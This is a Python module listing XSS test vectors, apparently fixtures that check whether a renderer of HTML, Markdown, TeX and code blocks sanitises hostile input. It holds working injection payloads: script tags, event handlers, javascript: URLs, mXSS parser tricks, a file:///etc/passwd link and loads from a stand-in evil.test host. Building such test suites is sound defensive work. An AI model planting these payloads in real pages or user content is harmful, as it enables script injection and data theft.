r"""Texts that try to attack the page that shows them (XSS vectors).

Each tries to call ``hit(…)``, to load from ``evil.test``, or to change the page around it. They
follow public XSS collections: event handlers, namespaces, obfuscated URLs, styles, and known
problems of parsers of Markdown, TeX and code.
"""

from __future__ import annotations

_HTML = r'''
<script>hit(1)</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<scr<script>ipt>hit(1)</scr</script>ipt>
<script/src="data:text/javascript,hit(1)"></script>
<script x> hit(1) </script 1=2
<img src=x onerror=hit(1)>
<img src=x onerror=hit(1)//
<IMG """><SCRIPT>hit(1)</SCRIPT>"\>
<img src=`javascript:hit(1)`>
<img src="http://evil.test/pixel.png">
<img srcset="http://evil.test/a.png 1x">
<image src=http://evil.test/a.png>
<picture><source srcset=http://evil.test/a.png><img src=x></picture>
<input type=image src=http://evil.test/a.png onerror=hit(1)>
<input autofocus onfocus=hit(1)>
<select autofocus onfocus=hit(1)>
<textarea autofocus onfocus=hit(1)>
<keygen autofocus onfocus=hit(1)>
<video src=http://evil.test/a.mp4 onerror=hit(1)></video>
<video><source onerror="hit(1)"></video>
<audio src=x onerror=hit(1)>
<body onload=hit(1)>
<body background=http://evil.test/b.png>
<iframe src=javascript:hit(1)></iframe>
<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>
<frameset><frame src=javascript:hit(1)></frameset>
<object data=javascript:hit(1)></object>
<object type=text/x-scriptlet data=http://evil.test/x.html></object>
<embed src=javascript:hit(1)>
<applet code=hit archive=http://evil.test/x.jar></applet>
<link rel=stylesheet href=http://evil.test/x.css>
<link rel=import href=http://evil.test/x.html>
<meta http-equiv=refresh content="0;url=javascript:hit(1)">
<meta http-equiv=refresh content="0;url=http://evil.test/">
<base href=http://evil.test/>
<form action=javascript:hit(1)><button>x</button></form>
<form><button formaction=javascript:hit(1)>x</button></form>
<isindex type=image src=1 onerror=hit(1)>
<marquee onstart=hit(1)>x</marquee>
<details open ontoggle=hit(1)>x</details>
<div onpointerover=hit(1) onmouseover=hit(1)>x</div>
<b onanimationstart=hit(1) class=card style="animation:x">x</b>
<table background=http://evil.test/t.png><td background=http://evil.test/t.png>x</table>
<p style="background:url(http://evil.test/s.png)">x</p>
<p style="width:expression(hit(1))">x</p>
<p style="position:fixed;inset:0;z-index:9999;background:red">covers the page</p>
<style>body{display:none}</style>
<style>@import 'http://evil.test/x.css';</style>
<style><img src="</style><img src=x onerror=hit(1)>">
<a href=javascript:hit(1)>x</a>
<a href="java&#115;cript:hit(1)">x</a>
<a href="java
script:hit(1)">x</a>
<a href=" &#14; javascript:hit(1)">x</a>
<a href="JaVaScRiPt:hit(1)">x</a>
<a href="javascript&colon;hit(1)">x</a>
<a href="javascript&#x3A;hit(1)">x</a>
<a href="vbscript:hit(1)">x</a>
<a href="data:text/html,<script>hit(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=">x</a>
<a href="//evil.test/x" ping="http://evil.test/ping">x</a>
<a href="https://example.test/" onclick="hit(1)" target="_top" style="x" id="app">x</a>
<a href='https://example.test/" onmouseover="hit(1)'>x</a>
<a xlink:href="javascript:hit(1)">x</a>
<svg onload=hit(1)>
<svg><script>hit(1)</script></svg>
<svg><script href="data:,hit(1)" /></svg>
<svg><a xlink:href=javascript:hit(1)><text y=1em>x</text></a></svg>
<svg><animate onbegin=hit(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover value=hit(1)>
<svg><use href="data:image/svg+xml,<svg id='x'><script>hit(1)</script></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=hit(1)></foreignObject></svg>
<svg><style><img src=x onerror=hit(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">
<svg><p><style><g title="</style><img src=x onerror=hit(1)>">
<math href="javascript:hit(1)">x</math>
<math><maction actiontype=statusline xlink:href=javascript:hit(1)>x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=hit(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=hit(1)></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>hit(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>
<noscript><p title="</noscript><img src=x onerror=hit(1)>">
<template><script>hit(1)</script></template>
<xmp><p title="</xmp><img src=x onerror=hit(1)>">
<noembed><img title="</noembed><img src onerror=hit(1)>"></noembed>
<title><img title="</title><img src onerror=hit(1)>"></title>
<textarea><img title="</textarea><img src onerror=hit(1)>"></textarea>
<listing>&lt;img onerror="hit(1)" src=x&gt;</listing>
<plaintext><img src=x onerror=hit(1)>
<!--><img src=x onerror=hit(1)>-->
<!--<img src="--><img src=x onerror=hit(1)//">
<![CDATA[<img src=x onerror=hit(1)>]]>
<?xml version="1.0"?><img src=x onerror=hit(1)>
<!DOCTYPE html [<!ENTITY x "<script>hit(1)</script>">]>&x;
</div></div></article><script>hit(1)</script>
</p></td></table></main><img src=x onerror=hit(1)>
<custom-element onclick=hit(1) is=x>x</custom-element>
<slot onslotchange=hit(1)><b slot=x>x</b></slot>
<div id=app class="card full" data-card=x>takes a name of the page</div>
<a name=document id=location>x</a>
<b <script>hit(1)</script>>x</b>
<b/onclick=hit(1)/x>x</b>
<a/href="javascript:hit(1)"/x>x</a>
<a href=https://example.test/?x=<script>hit(1)</script>>x</a>
<dialog open onclose=hit(1)>x</dialog>
<button popovertarget=x onbeforetoggle=hit(1)>x</button>
'''.strip().split("\n<")

_MARKDOWN = r"""
[x](javascript:hit(1))
[x](JaVaScRiPt:hit(1))
[x](&#106;avascript:hit(1))
[x](javascript&colon;hit(1))
[x](java%0ascript:hit(1))
[x](<javascript:hit(1)>)
[x]( javascript:hit(1) "t")
[x](\javascript:hit(1))
[x](javascript://example.test/%0Ahit(1))
[x](vbscript:hit(1))
[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)
[x](file:///etc/passwd)
[x](blob:http://localhost/1)
[x](//evil.test/x)
[x](/api/v1/status)
[x](#fullscreen)
[x](https://example.test/"onmouseover="hit(1))
[x](https://example.test/ "t\" onmouseover=\"hit(1)")
[x](https://example.test/ '"><script>hit(1)</script>')
[<img src=x onerror=hit(1)>](https://example.test/)
[x][ref]
![x](javascript:hit(1))
![x](http://evil.test/pixel.png)
![x](http://evil.test/pixel.png "t\" onerror=\"hit(1)")
![x" onerror="hit(1)](http://evil.test/a.png)
![x](data:image/svg+xml,<svg onload=hit(1)>)
![x](x" onerror="hit(1))
[![x](http://evil.test/a.png)](javascript:hit(1))
<javascript:hit(1)>
<https://example.test/"onmouseover=hit(1)>
<https://example.test/<script>hit(1)</script>>
<hit@example.test"onmouseover=hit(1)>
https://example.test/"onmouseover="hit(1)
https://example.test/<script>hit(1)</script>
https://example.test/')hit(1)//
`<script>hit(1)</script>`
``<img src=x onerror=hit(1)>``
*<script>hit(1)</script>*
**<img src=x onerror=hit(1)>**
# <script>hit(1)</script>
> <script>hit(1)</script>
- <img src=x onerror=hit(1)>
- [x] <img src=x onerror=hit(1)>
1. <img src=x onerror=hit(1)>
~~<img src=x onerror=hit(1)>~~
&lt;script&gt;hit(1)&lt;/script&gt;
&#60;script&#62;hit(1)&#60;/script&#62;
$\href{javascript:hit(1)}{x}$
$\text{<script>hit(1)</script>}$
$\text{&lt;script&gt;hit(1)&lt;/script&gt;}$
$\text{</mtext></math><img src=x onerror=hit(1)>}$
$\style{background:url(http://evil.test/s.png)}{x}$
$\class{card full}{x}$
$\color{red;background:url(http://evil.test/c.png)}{x}$
$\color{"><script>hit(1)</script>}{x}$
$\html{<img src=x onerror=hit(1)>}$
$\includegraphics{http://evil.test/g.png}$
$\unicode{<script>hit(1)</script>}$
$$\href{javascript:hit(1)}{\text{<img src=x onerror=hit(1)>}}$$
$\begin{array}{"onclick=hit(1)}x\end{array}$
$\operatorname{<img src=x onerror=hit(1)>}$
$x" onmouseover="hit(1)$
""".strip().split("\n")

_BLOCKS = [
    "[ref]: javascript:hit(1)\n\n[x][ref]",
    '[ref]: https://example.test/ "\\" onclick=\\"hit(1)"\n\n[x][ref]',
    "```<script>hit(1)</script>\ncode\n```",
    '```"onmouseover="hit(1)\ncode\n```',
    '```python" onclick="hit(1)\nx = 1\n```',
    "```python\n<script>hit(1)</script>\n'</code></pre><img src=x onerror=hit(1)>'\n```",
    "```html\n<script>hit(1)</script><img src=x onerror=hit(1)>\n```",
    "```card\nclass names of the page\n```",
    "~~~ js <img src=x onerror=hit(1)>\n</code><script>hit(1)</script>\n~~~",
    "    <script>hit(1)</script>",
    "| a | b |\n|---|---|\n| <script>hit(1)</script> | <img src=x onerror=hit(1)> |",
    '| a |\n|:--"onclick="hit(1)|\n| x |',
    "| [x](javascript:hit(1)) |\n|---|\n| `</td><script>hit(1)</script>` |",
    "\\begin{align}\\href{javascript:hit(1)}{x}\\text{<script>hit(1)</script>}\\end{align}",
    "$$\n</math><script>hit(1)</script>\n$$",
    "<div>\n\n[x](javascript:hit(1))\n\n<script>\nhit(1)\n</script>\n\n</div>",
    "<pre>\n<script>hit(1)</script>\n\n<img src=x onerror=hit(1)>\n</pre>",
    "<table><tr><td><svg><desc></table><img src=x onerror=hit(1)>",
    "<details><summary><img src=x onerror=hit(1)></summary>\n\n<script>hit(1)</script></details>",
    "<p\nonclick=hit(1)\n>x</p>",
    "<a\nhref=javascript:hit(1)\n>x</a>",
    "<img\nsrc=x\nonerror\n=\nhit(1)\n>",
    "<scr\0ipt>hit(1)</scr\0ipt>",
    "<img src=x o\0nerror=hit(1)>",
    "[x](java\0script:hit(1))",
    "[x](java\tscript:hit(1))",
    "[x](\u0001javascript:hit(1))",
    "\u2028<script>hit(1)</script>",
    "<\u017fcript>hit(1)</\u017fcript>",
    '<a href="https://example.test/\u202e" onclick=hit(1)>x</a>',
    "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
    "\ufeff<script>hit(1)</script>",
    "<b>" * 600 + "<img src=x onerror=hit(1)>",
    "<table>" * 200 + "<script>hit(1)</script>",
]

VECTORS: list[str] = [
    *(one if one.startswith("<") else f"<{one}" for one in _HTML),
    *_MARKDOWN,
    *_BLOCKS,
]
